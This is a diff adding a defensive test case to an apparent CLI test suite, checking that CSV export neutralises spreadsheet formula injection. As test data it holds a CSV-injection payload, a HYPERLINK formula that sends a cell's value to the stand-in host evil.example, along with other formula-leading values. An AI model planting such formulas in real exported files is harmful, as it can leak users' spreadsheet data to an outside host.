@@ -822,6 +822,52 @@ def history_export(ctx):
 
 
 @case
+def export_formulas(ctx):
+    """export --csv neutralises text cells a spreadsheet would run as a
+    formula (OWASP, CSV injection): a cell that begins with = + - @, a tab
+    or CR gets a single quote before it and is quoted; a cell with a
+    semicolon is quoted; numbers quald sends as numbers stay numbers, a
+    negative one included. --lnt keeps every value exact."""
+    sha = "cd" * 32
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    labels = {"a": formula, "b": "+1", "c": "@x", "d": "-2+3", "e": "\tx", "f": "\rx",
+              "g": "x;=1+1", "h": "ok", "i": "-0.97"}
+    jobs = [{"job": "j000003", "state": "done", "verdict": "neutral",
+             "submitted": "2026-12-01T02:00:00Z", "finished": "2026-12-01T02:10:00Z",
+             "labels": labels,
+             "baseline": {"path": "/b.so", "sha256": sha}, "candidate": {"path": "/c.so", "sha256": sha},
+             "cases": [{"case": "-gemm", "verdict": "equivalent", "ratio": 0.99,
+                        "ci_low": -0.97, "ci_high": 1.5, "p_holm": 0.2, "baseline_ns": 1000.0,
+                        "candidate_ns": 990.0, "timed": True}]}]
+
+    def handler(req):
+        return [reply("history", jobs=jobs)]
+    ctx.serve(handler)
+    code, out, err = ctx.run("export", "--csv")
+    check(code == 0, "export --csv exit", out, err)
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    check(len(rows) == 2, "csv rows", out)
+    col = {n: i for i, n in enumerate(rows[0])}
+    row = rows[1]
+    for key, value in labels.items():
+        cell = row[col["label:" + key]]
+        if value[0] in "=+-@\t\r":
+            check(cell == "'" + value, f"label {key!r} neutralised", repr(cell), out)
+            quoted = '"\'' + value.replace('"', '""') + '"'
+            check(quoted in out, f"label {key!r} quoted whole", repr(quoted), out)
+        else:
+            check(cell == value, f"label {key!r} as it is", repr(cell), out)
+    check('"x;=1+1"' in out, "a cell with a semicolon is quoted", out)
+    check(row[col["case"]] == "'-gemm", "a case name is text", out)
+    check(row[col["ci_low"]] == "-0.97" and ",-0.97," in out, "a negative number stays a number",
+          out)
+    code, out, err = ctx.run("export", "--lnt")
+    check(code == 0, "export --lnt exit", out, err)
+    run = json.loads(out)[0]["run"]
+    check(all(run[k] == v for k, v in labels.items()), "lnt keeps labels exact", out)
+
+
+@case
 def show_cancel(ctx):
     lines = timed_lines("regression")
 
